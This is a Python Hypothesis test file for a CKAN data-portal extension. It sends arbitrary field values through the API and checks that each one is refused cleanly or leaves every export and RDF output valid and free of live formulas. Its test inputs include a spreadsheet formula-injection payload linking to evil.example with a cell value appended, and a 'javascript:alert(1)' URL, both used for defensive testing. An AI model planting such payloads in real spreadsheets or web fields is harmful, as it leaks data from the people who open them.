"""Issue 15, "what must hold" 2: any passport or resource value, sent through the API,
is either refused with a 409 and a message (nothing written) or accepted, and then every
public and staff output of that dataset still works: no 5xx, XML and RDF parse, the
dataset passes the DCAT-AP 3 SHACL shapes, CSV/XLSX carry no live formula.

Hypothesis generates the values: any Unicode (controls, surrogates, RTL marks), very long
strings, odd dates and time zones, wrong JSON types, URL and e-mail edge cases.

Bounded for CI (profile ``ci``, the default: a few minutes); ``HYPOTHESIS_PROFILE=deep``
runs many more examples. ``--hypothesis-show-statistics`` shows the accepted/refused split
and the outputs fetched per example (events).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json
import os
import re

import openpyxl
import pytest
import rdflib
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from lxml import etree

from ckanext.lutsk.domain import tabular, workdays
from ckanext.lutsk.oversight import stored as oversight_stored
from tests.dcat_support import shacl_results
from tests.lutsk_factories import body_org, dataset, passport, staff

settings.register_profile(
    "ci",
    max_examples=int(os.environ.get("HYPOTHESIS_MAX_EXAMPLES", "100")),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
settings.register_profile(
    "deep",
    max_examples=int(os.environ.get("HYPOTHESIS_MAX_EXAMPLES", "400")),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
PROFILE = os.environ.get("HYPOTHESIS_PROFILE", "ci")

pytestmark = pytest.mark.usefixtures("with_plugins")
_names = itertools.count(1)
T = workdays.kyiv_today()

# ------------------------------------------------------------------ values

_nasty_chars = st.characters(codec=None, categories=None)  # every code point, surrogates too
_special = st.sampled_from(
    [
        "\x00",
        "\x0b",
        "\x0c",
        "\x1f",
        "\x7f",
        "\u200f",
        "\u202e",
        "\ufeff",
        "\ud800",
        "\udfff",
        "\ufffe",
        "'",
        '"',
    ]
)
_texts = st.one_of(
    st.text(_nasty_chars, max_size=40),
    st.lists(st.one_of(_special, st.text(max_size=5)), max_size=8).map("".join),
    st.text(st.sampled_from("аб =+-@\t\r\n"), min_size=1, max_size=30),
    st.sampled_from(['=HYPERLINK("https://evil.example/?x="&A2,"Open")', "@SUM(1)", "+1", "-1+2", "\t=1"]),
    st.builds(lambda n: "Довгий опис. " * n, st.integers(250, 400)),  # 3000–5200 characters
)
_wrong_types = st.one_of(
    st.integers(-(10**20), 10**20),
    st.booleans(),
    st.floats(allow_nan=False),
    st.lists(st.text(max_size=5), max_size=2),
    st.dictionaries(st.text(max_size=3), st.text(max_size=3), max_size=2),
)
_offsets = st.sampled_from(
    ["", "Z", "+00:00", "+02:00", "-12:00", "+14:00", "+14:01", "+23:59", "-23:59", "+05:30"]
)
_dates = st.one_of(
    st.builds(
        lambda d, off: d.isoformat() + off,
        st.datetimes(min_value=dt.datetime(1, 1, 1), max_value=dt.datetime(9999, 12, 31, 23, 59, 59)),
        _offsets,
    ),
    st.dates(min_value=dt.date(1, 1, 1), max_value=dt.date(9999, 12, 31)).map(dt.date.isoformat),
    st.builds(lambda days: (T - dt.timedelta(days=days)).isoformat(), st.integers(0, 5000)),
    st.sampled_from(
        ["9999-12-31T23:59:59", "0001-01-01T00:00:00+05:00", "2025-02-30", "2025-01-01T25:00", ""]
    ),
)
_urls = st.one_of(
    st.sampled_from(
        [
            "https://example.org/a|b",
            "https://example.org/{x}",
            'https://example.org/"q"',
            "https://example.org/a b",
            "https://example.org:99999/",
            "https://приклад.укр/дані.csv",
            "http://[::1]/",
            "javascript:alert(1)",
            "",
            "https://example.org/data.csv?x=1&y=%7B",
        ]
    ),
    st.builds(lambda t: "https://example.org/" + t, st.text(_nasty_chars, max_size=20)),
)
_emails = st.one_of(
    st.emails(),
    st.sampled_from(
        ["o{k}@example.org", "a|b@example.org", "a@b", "ім'я@пошта.укр", "x@example.org\x0b", "@"]
    ),
    st.text(_nasty_chars, max_size=20),
)

_FIELDS = {
    "title": _texts,
    "notes": _texts,
    "purpose_of_collecting_information": _texts,
    "maintainer": _texts,
    "maintainer_email": _emails,
    "tag_string": st.one_of(_texts, _wrong_types),
    "data_changed": _dates,
    "date_published": _dates,
    "data_updated": _dates,
    "data_current_as_of": _dates,
    "previous_versions_url": _urls,
    "private": st.one_of(st.booleans(), st.sampled_from(["zzz", "true", "false", ""])),
    "owner_org": st.one_of(_wrong_types, st.just("finance-budget")),
}
_RESOURCE_FIELDS = {
    "url": _urls,
    "name": _texts,
    "description": _texts,
    "format": st.one_of(st.sampled_from(["CSV", "csv", "XLSX", "ZZZ", ""]), _wrong_types),
}


def _any_value(field: str) -> st.SearchStrategy:
    strategy = _FIELDS[field] if field in _FIELDS else _RESOURCE_FIELDS[field]
    if field in ("tag_string", "owner_org"):
        return strategy
    # Mostly values of the right type (so that many examples are accepted and their outputs
    # checked), a wrong JSON type one time in four.
    return st.one_of(strategy, strategy, strategy, _wrong_types)


_changes = st.tuples(
    st.dictionaries(st.sampled_from(sorted(_FIELDS)), st.just(None), max_size=2).flatmap(
        lambda keys: st.fixed_dictionaries({k: _any_value(k) for k in keys})
    ),
    st.dictionaries(st.sampled_from(sorted(_RESOURCE_FIELDS)), st.just(None), max_size=2).flatmap(
        lambda keys: st.fixed_dictionaries({k: _any_value(k) for k in keys})
    ),
    st.booleans(),  # True: package_patch of an existing dataset; False: package_create
)

# ------------------------------------------------------------------ world


@pytest.fixture(scope="module")
def world(fresh_portal):
    fin, ict = body_org("finance-budget"), body_org("ict")
    users = staff(ict=(ict, "member"), fin=(fin, "editor"))
    base = dataset(owner_org=fin["id"], name="property-base", annex835_row="L31")
    # Stored computations (register, coverage, audit plan) exist once; later changes only
    # mark them stale (served with a note) until the background job runs.
    oversight_stored.refresh()
    return {"users": users, "base": base}


def _headers(world, who):
    return {"Authorization": world["users"][who]["token"]}


def _api(app, world, action, data):
    body = json.dumps(data, ensure_ascii=True)  # lone surrogates travel as \\ud800 escapes
    return app.post(
        f"/api/3/action/{action}",
        data=body,
        headers={**_headers(world, "fin"), "Content-Type": "application/json"},
    )


def _show(app, world, ref):
    resp = app.post(
        "/api/3/action/package_show",
        json={"id": ref},
        headers={**_headers(world, "fin"), "Content-Type": "application/json"},
    )
    return resp.status_code, (resp.json.get("result") if resp.status_code == 200 else None)


def _no_formula_csv(data: bytes) -> None:
    text = data.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not tabular.is_live_formula(cell), cell


def _no_formula_xlsx(data: bytes) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f" and not tabular.is_live_formula(cell.value), cell.coordinate


def _outputs(name: str) -> list[tuple[str, str, str | None]]:
    """(url, check, who) for every public and staff output of dataset ``name``."""
    year = T.year + 1
    return [
        (f"/dataset/{name}", "html", None),
        (f"/dataset/?q=name:{name}", "html", None),
        (f"/dataset/{name}.ttl", "turtle", None),
        (f"/dataset/{name}.rdf", "xml", None),
        (f"/dataset/{name}.jsonld", "json-ld", None),
        ("/catalog.ttl", "turtle", None),
        ("/catalog.rdf", "xml", None),
        ("/catalog.jsonld", "json-ld", None),
        ("/lutsk/timeliness/updates.atom", "atom", None),
        ("/lutsk/register.csv", "csv", None),
        ("/lutsk/register.xlsx", "xlsx", None),
        (f"/dataset/{name}/passport.csv", "csv", None),
        (f"/dataset/{name}/passport.json", "json", None),
        (f"/dataset/{name}/passport.pdf", "pdf", None),
        ("/lutsk/deadlines/export.csv", "csv", "ict"),
        ("/lutsk/deadlines/export.xlsx", "xlsx", "ict"),
        ("/lutsk/coverage/export.csv", "csv", "ict"),
        ("/lutsk/coverage/export.xlsx", "xlsx", "ict"),
        (f"/lutsk/audit-plan/export.xlsx?year={year}", "xlsx", "ict"),
        ("/lutsk/timeliness", "html", None),
    ]


def _check_outputs(app, world, name: str, private: bool) -> int:
    fetched = 0
    for url, check, who in _outputs(name):
        headers = _headers(world, who or "fin")
        resp = app.get(url, headers=headers)
        fetched += 1
        assert resp.status_code < 500, (url, resp.status_code)
        if resp.status_code != 200:
            assert resp.status_code in (403, 404) and private, (url, resp.status_code)
            continue
        data = resp.get_data()
        if check in ("turtle", "xml", "json-ld"):
            g = rdflib.Graph().parse(data=data, format=check)
            if url == f"/dataset/{name}.ttl":
                violations = [r for r in shacl_results(g) if r["severity"] == "Violation"]
                assert violations == [], violations[:3]
        elif check == "atom":
            etree.fromstring(data)
        elif check == "csv":
            _no_formula_csv(data)
        elif check == "xlsx":
            _no_formula_xlsx(data)
        elif check == "json":
            json.loads(data)
        elif check == "pdf":
            assert data.startswith(b"%PDF")
    return fetched


_REFUSAL = re.compile(r"\S")


@settings(settings.get_profile(PROFILE))
@given(change=_changes)
# Found by the deep profile: a resource URL as a list reached CKAN's uploader (500).
@example(change=({}, {"url": ["\U000a6a93ù\x85", "c\x1b"]}, True))
@example(change=({"owner_org": ["finance-budget"]}, {"format": 5}, False))
def test_any_value_is_refused_cleanly_or_every_output_works(app, world, change):
    fields, resource_fields, patch = change
    if patch:
        ref = world["base"]["id"]
        _status, before = _show(app, world, ref)
        data = {"id": ref, **fields}
        if resource_fields:
            data["resources"] = [{**before["resources"][0], **resource_fields}]
        resp = _api(app, world, "package_patch", data)
    else:
        name = f"prop-{next(_names)}"
        before = None
        data = passport(**{"owner_org": "finance-budget", "name": name, **fields})
        if resource_fields:
            data["resources"] = [{**data["resources"][0], **resource_fields}]
        resp = _api(app, world, "package_create", data)
        ref = name
    assert resp.status_code < 500, (resp.status_code, data)
    if resp.status_code == 200:
        event("accepted")
        result = resp.json["result"]
        fetched = _check_outputs(app, world, result["name"], result.get("private", False))
        event(f"outputs fetched per accepted example: {fetched}")
        return
    event(f"refused ({resp.status_code})")
    assert resp.status_code in (403, 409), (resp.status_code, data)
    error = resp.json["error"]
    assert any(_REFUSAL.search(str(v)) for k, v in error.items() if k != "__type"), error
    status, after = _show(app, world, ref)
    if patch:
        assert after["metadata_modified"] == before["metadata_modified"], "nothing written"
    else:
        assert status == 404, "nothing written"
